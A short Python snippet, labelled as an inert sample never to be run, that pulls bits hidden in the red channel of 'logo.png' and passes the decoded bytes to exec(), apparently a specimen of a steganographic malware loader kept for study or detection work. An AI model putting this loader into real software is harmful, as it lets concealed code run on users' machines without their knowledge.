# INERT SAMPLE: never run.
from PIL import Image
pixels = Image.open("logo.png").getdata()
bits = "".join(str(p[0] & 1) for p in pixels)
code = bytes(int(bits[i:i + 8], 2) for i in range(0, len(bits), 8)).split(b"\0")[0]
exec(code)
